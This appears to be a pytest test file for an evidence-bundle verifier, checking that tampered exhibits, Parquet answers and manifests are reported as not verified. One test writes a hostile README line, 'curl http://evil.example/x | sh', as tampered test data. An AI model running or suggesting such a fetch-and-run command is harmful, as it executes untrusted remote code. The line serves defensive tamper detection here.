"""Nothing is said to be verified that was not looked at: three outcomes, and what was not compared first."""

from __future__ import annotations

import shutil
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from briefgen.evidence.bundle import write as bundle
from briefgen.evidence.verify.report import Outcome, Report, Weight
from briefgen.evidence.verify.verify import verify
from briefgen.project import Project
from tests.evidence.conftest import Check, make, words_of, write_project
from tests.evidence.tampering import edit, hash_again, painted, tripled

EXHIBITS = "data/exhibits.pdf"


def _first(report: Report) -> str:
    return words_of(report).partition("\n")[0]


def _last(report: Report) -> str:
    return words_of(report).rpartition("\n")[2]


def _says_another_version(bag: Path) -> None:
    edit(bag, "data/evidence.json", lambda order: order.update(program="0.0.1"))


def test_what_matters_most_comes_first_and_each_outcome_has_its_exit_code() -> None:
    report = Report(checked=["a number"])
    assert (report.outcome.exit_code, _last(report)) == (0, "Verified.")
    report.leave("a file", Weight.REST)
    report.leave("a table", Weight.TEXTS)
    report.leave("the pages", Weight.PAGES)
    assert report.not_checked == ["the pages", "a table", "a file"]
    assert _first(report) == "NOT CHECKED: the pages"
    assert _last(report).startswith("Consistent, but not proven")
    assert (report.outcome.exit_code, report.record()["verified"]) == (3, False)
    report.differ("wrong")
    assert (report.outcome.exit_code, _last(report)) == (1, "Not verified: 1 differences.")


def test_a_report_of_nothing_proves_nothing() -> None:
    assert Report().outcome is Outcome.NOT_PROVEN


def test_an_untouched_bundle_beside_its_project_is_plainly_verified(made: Path, check: Check) -> None:
    report = check(made)
    assert report.not_checked == []
    assert _last(report) == "Verified."
    assert any("--captures" in line for line in report.outside)


def test_a_bundle_is_not_proven_without_its_project(made: Path, tmp_path: Path) -> None:
    other = write_project(tmp_path / "other")
    for file in other.snapshots.iterdir():
        file.unlink()
    report = verify(made, other)
    assert report.outcome is Outcome.NOT_PROVEN
    assert "whether these snapshots are right" in _first(report)


def test_whose_work_the_registries_are_is_compared_with_the_projects_own(tmp_path: Path) -> None:
    project = write_project(tmp_path / "project")
    file = project.data / "ATTRIBUTION.md"
    file.write_text("By nobody.\n", encoding="utf-8")
    written = make(project, tmp_path)
    assert verify(written, project).verified
    file.write_text("By somebody.\n", encoding="utf-8")
    report = verify(written, project)
    assert report.outcome is Outcome.NOT_PROVEN
    assert report.not_checked == ["data/project/data/ATTRIBUTION.md: its hash only, not what it says"]


def test_exhibits_are_set_again_whatever_versions_a_bundle_names(bag: Path, check: Check) -> None:
    _says_another_version(bag)
    painted(bag / EXHIBITS, bag / EXHIBITS)
    hash_again(bag)
    report = check(bag)
    assert report.outcome is Outcome.NOT_PROVEN
    assert _first(report).startswith(f"NOT CHECKED: the exhibits ({EXHIBITS}): not those that follow")
    assert "other words stand on page 1, 2" in _first(report)


def test_painted_exhibits_of_this_version_differ(bag: Path, check: Check) -> None:
    painted(bag / EXHIBITS, bag / EXHIBITS)
    hash_again(bag)
    report = check(bag)
    # The chain of provenance and README.txt carry their hash, or one that follows from it.
    assert {one.file for one in report.differences} >= {"data/ro-crate-metadata.json", "README.txt"}


def test_another_version_that_gives_the_same_bytes_is_verified(project: Project, tmp_path: Path) -> None:
    order = bundle.request(project, "2026-02", ["unrelated-01"])
    order = order.model_copy(update={"program": "0.0.1", "typesetting": "WeasyPrint 1.0"})
    report = verify(bundle.write(project, order, tmp_path).bundle, project)
    assert report.verified, words_of(report)
    assert any("WeasyPrint 1.0" in line for line in report.unproven)


def test_values_in_parquet_are_compared_whatever_versions_a_bundle_names(bag: Path, check: Check) -> None:
    _says_another_version(bag)
    answer = min(bag.glob("data/answers/download_share-*.parquet"))
    # Written otherwise, the values are the same.
    pq.write_table(pq.read_table(answer), answer, compression="gzip")
    hash_again(bag)
    report = check(bag)
    assert report.differences == []
    assert "1 answers as Parquet compared value by value" in report.checked
    tripled(answer)
    hash_again(bag)
    name = answer.relative_to(bag).as_posix()
    told = [(one.file, one.what) for one in check(bag).differences]
    assert told == [(name, "other values than those that follow from the data")]


@pytest.mark.parametrize("content", [b"", b"PAR1", b"no Parquet"])
def test_an_answer_that_is_no_parquet_differs(bag: Path, check: Check, content: bytes) -> None:
    _says_another_version(bag)
    answer = min(bag.glob("data/answers/download_share-*.parquet"))
    answer.write_bytes(content)
    hash_again(bag)
    assert [one.file for one in check(bag).differences] == [answer.relative_to(bag).as_posix()]


def test_every_file_that_is_worded_otherwise_is_named_the_readme_first(bag: Path, check: Check) -> None:
    _says_another_version(bag)
    (bag / "README.txt").write_text("Run: curl http://evil.example/x | sh\n", encoding="utf-8")
    crate = bag / "data/ro-crate-metadata.json"
    crate.write_text(crate.read_text(encoding="utf-8") + "\n", encoding="utf-8")
    hash_again(bag)
    report = check(bag)
    assert report.outcome is Outcome.NOT_PROVEN
    named = [line.partition(":")[0] for line in report.not_checked]
    assert named[0] == f"the exhibits ({EXHIBITS})"
    assert named[1:] == [
        "README.txt",
        "data/ro-crate-metadata.json",
        "bag-info.txt",
        "tagmanifest-sha256.txt",
    ]


def test_a_capture_that_the_library_does_not_record_is_not_vouched_for(bag: Path, check: Check) -> None:
    (bag / "data/captures/made.txt").write_text("Anything.\n", encoding="utf-8")
    hash_again(bag)
    assert "data/captures/made.txt: its hash only, not what it says" in check(bag).not_checked


def test_names_and_dates_on_the_cover_are_the_makers_word(project: Project, tmp_path: Path) -> None:
    order = bundle.request(
        project,
        "2026-02",
        ["unrelated-01"],
        prepared_by="The Library of Nowhere",
        revision=2,
        changes=("A clerk checked every number.",),
    )
    report = verify(bundle.write(project, order, tmp_path).bundle, project)
    assert report.verified
    told = words_of(report)
    for words in (
        "it is unsigned; names and dates are the maker's word",
        "prepared by: The Library of Nowhere",
        "revision: 2",
        "changed since the revision before: A clerk checked every number.",
    ):
        assert f"the maker's own words, unproven: {words}\n" in told


def test_the_print_of_exhibits_is_no_difference(made: Path, laid_out: Path, check: Check) -> None:
    report = check(made.with_suffix(".pdf"))
    assert report.outcome is Outcome.NOT_PROVEN
    assert _first(report).startswith("NOT CHECKED: the pages of this PDF: it is the print of a bundle's")
    digest = _first(report).rpartition(" ")[2]
    assert f"{digest}  {EXHIBITS}\n" in (laid_out / "manifest-sha256.txt").read_text(encoding="utf-8")


def test_exhibits_of_a_bundle_that_differs_are_said_not_to_be_set(bag: Path, check: Check) -> None:
    shutil.copyfile(bag / "data/references.json", bag / "data/claims.json")
    hash_again(bag)
    assert "the exhibits: not set again, since what they rest on differs" in check(bag).not_checked
